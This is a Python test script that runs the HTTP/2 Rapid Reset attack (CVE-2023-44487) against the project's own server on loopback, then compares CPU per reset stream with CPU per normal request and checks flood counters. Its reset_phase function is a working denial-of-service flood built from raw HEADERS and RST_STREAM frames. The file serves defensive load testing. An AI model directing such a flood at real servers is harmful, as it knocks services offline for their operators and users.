#!/usr/bin/env python3
"""Rapid reset (CVE-2023-44487) against a running hello-* --h2 on loopback.

Measures the server's CPU per stream under a rapid-reset client (streams
opened and reset as fast as this one process can write them, reconnecting
after each GOAWAY) against its CPU per request under plain pipelined
requests (100 streams at a time on one connection, as h2load -m 100), from
/proc/PID/stat; checks that another connection is answered while the
attack runs; and reads the open streams and the floods counted from the
admin port's /stats afterwards. Bounded: --seconds for each phase.

  build/hello-sanic --h2 -H 127.0.0.1 -p 0 --admin 127.0.0.1:9901 &
  tests/tools/h2_rapid_reset.py --port PORT --pid $! --admin 127.0.0.1:9901 --seconds 10

Exit 0 if the attack cost at most --max-ratio times a request's CPU per
stream, no stream was left open and every probe was answered; 1 if not; 2
for a bad argument. Figures are indicative on a shared machine.
"""
import argparse
import json
import os
import select
import socket
import struct
import sys
import time
import urllib.request

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
# :method GET, :scheme http, :path / (static indices 2, 6, 4) and
# :authority 127.0.0.1 as a literal without indexing.
BLOCK = b"\x82\x86\x84\x01\x09127.0.0.1"


def frame(ftype, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([ftype, flags]) + struct.pack(">I", stream) + payload


def settings(ack=False):
    return frame(4, 1 if ack else 0, 0)


def get(stream):
    return frame(1, 0x5, stream, BLOCK)  # END_HEADERS | END_STREAM


def rst(stream):
    return frame(3, 0, stream, struct.pack(">I", 8))  # CANCEL


class Frames:
    """Splits what the server sends into (type, flags, stream, payload)."""

    def __init__(self):
        self.buf = b""

    def feed(self, data):
        self.buf += data
        out = []
        while len(self.buf) >= 9:
            n = int.from_bytes(self.buf[:3], "big")
            if len(self.buf) < 9 + n:
                break
            t, f = self.buf[3], self.buf[4]
            sid = int.from_bytes(self.buf[5:9], "big") & 0x7FFFFFFF
            out.append((t, f, sid, self.buf[9 : 9 + n]))
            self.buf = self.buf[9 + n :]
        return out


def cpu_seconds(pid):
    with open(f"/proc/{pid}/stat") as f:
        fields = f.read().rsplit(")", 1)[1].split()
    return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")


def connect(port):
    s = socket.create_connection(("127.0.0.1", port))
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    # The connection's window opened to 2^31-1 at once: the answers' DATA
    # would otherwise stop after 64 KiB, with no WINDOW_UPDATE from us.
    grow = frame(8, 0, 0, struct.pack(">I", 0x7FFFFFFF - 65535))
    s.sendall(PREFACE + settings() + settings(ack=True) + grow)
    return s


def probe(port, timeout=2.0):
    """One GET on a new connection: seconds to its answer, or None."""
    t0 = time.monotonic()
    s = connect(port)
    s.sendall(get(1))
    fr = Frames()
    s.settimeout(timeout)
    try:
        while time.monotonic() - t0 < timeout:
            data = s.recv(65536)
            if not data:
                return None
            for t, f, sid, _ in fr.feed(data):
                if sid == 1 and t in (0, 1) and f & 1:
                    return time.monotonic() - t0
    except socket.timeout:
        return None
    finally:
        s.close()
    return None


def requests_phase(port, pid, seconds):
    s = connect(port)
    fr = Frames()
    sid, done = 1, 0
    c0, t0 = cpu_seconds(pid), time.monotonic()
    while time.monotonic() - t0 < seconds:
        batch, ids = b"", set()
        for _ in range(100):
            batch += get(sid)
            ids.add(sid)
            sid += 2
        s.sendall(batch)
        while ids:
            data = s.recv(1 << 20)
            if not data:
                raise SystemExit("the server closed the request connection")
            for t, f, i, payload in fr.feed(data):
                if t == 6 and not f & 1:
                    s.sendall(frame(6, 1, 0, payload))
                if t in (0, 1) and f & 1:
                    ids.discard(i)
        done += 100
        if sid > 2**31 - 400:
            s.close()
            s, sid = connect(port), 1
    s.close()
    return cpu_seconds(pid) - c0, done, time.monotonic() - t0


def reset_phase(port, pid, seconds):
    streams = connections = goaways = 0
    probes, slowest = [], 0.0
    c0, t0 = cpu_seconds(pid), time.monotonic()
    next_probe = t0 + 0.5
    while time.monotonic() - t0 < seconds:
        s = connect(port)
        connections += 1
        fr, sid, ended = Frames(), 1, False
        while not ended and time.monotonic() - t0 < seconds:
            batch = b"".join(get(i) + rst(i) for i in range(sid, sid + 200, 2))
            sid += 200
            try:
                s.sendall(batch)
            except OSError:
                break
            streams += 100
            while select.select([s], [], [], 0)[0]:
                try:
                    data = s.recv(1 << 20)
                except OSError:
                    data = b""
                if not data:
                    ended = True
                    break
                if any(t == 7 for t, _, _, _ in fr.feed(data)):
                    goaways += 1
                    ended = True
                    break
            if time.monotonic() >= next_probe:
                next_probe += 0.5
                p = probe(port)
                probes.append(p)
        s.close()
    return cpu_seconds(pid) - c0, streams, connections, goaways, probes, time.monotonic() - t0


def admin_stats(admin):
    with urllib.request.urlopen(f"http://{admin}/stats", timeout=2) as r:
        return json.load(r)


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    ap.add_argument("--port", type=int, required=True)
    ap.add_argument("--pid", type=int, required=True, help="the server's process id (for /proc/PID/stat)")
    ap.add_argument("--admin", required=True, help="the server's --admin HOST:PORT (for /stats)")
    ap.add_argument("--seconds", type=float, default=10.0, help="each phase's length (default 10)")
    ap.add_argument("--max-ratio", type=float, default=1.0, help="CPU per reset stream over CPU per request")
    ap.add_argument("--json", help="write the figures to this file")
    a = ap.parse_args()
    if a.seconds <= 0 or a.seconds > 120 or not os.path.exists(f"/proc/{a.pid}/stat"):
        print("h2_rapid_reset: --seconds must be in (0, 120] and --pid a running process", file=sys.stderr)
        return 2

    req_cpu, requests, req_wall = requests_phase(a.port, a.pid, a.seconds)
    rr_cpu, streams, conns, goaways, probes, rr_wall = reset_phase(a.port, a.pid, a.seconds)
    time.sleep(0.3)  # the last connections' close
    total = admin_stats(a.admin)["total"]
    h2 = total.get("http2", {})
    per_request = req_cpu / max(requests, 1)
    per_stream = rr_cpu / max(streams, 1)
    answered = [p for p in probes if p is not None]
    figures = {
        "requests": requests, "request_cpu_s": round(req_cpu, 3), "request_wall_s": round(req_wall, 2),
        "cpu_us_per_request": round(per_request * 1e6, 3),
        "reset_streams": streams, "reset_connections": conns, "goaways_seen": goaways,
        "reset_cpu_s": round(rr_cpu, 3), "reset_wall_s": round(rr_wall, 2),
        "cpu_us_per_reset_stream": round(per_stream * 1e6, 3),
        "ratio": round(per_stream / per_request, 3) if per_request > 0 else None,
        "probes": len(probes), "probes_answered": len(answered),
        "probe_slowest_ms": round(max(answered) * 1e3, 2) if answered else None,
        "streams_open_after": h2.get("streams_open"),
        "flood_rapid_reset": h2.get("flood_rapid_reset"),
        "rst_stream_received": h2.get("rst_stream_received"),
    }
    for k, v in figures.items():
        print(f"{k}: {v}")
    if a.json:
        with open(a.json, "w") as f:
            json.dump(figures, f, indent=1)
    ok = (figures["ratio"] is not None and figures["ratio"] <= a.max_ratio
          and figures["streams_open_after"] == 0 and len(answered) == len(probes))
    print("PASS" if ok else "FAIL")
    return 0 if ok else 1


if __name__ == "__main__":
    sys.exit(main())
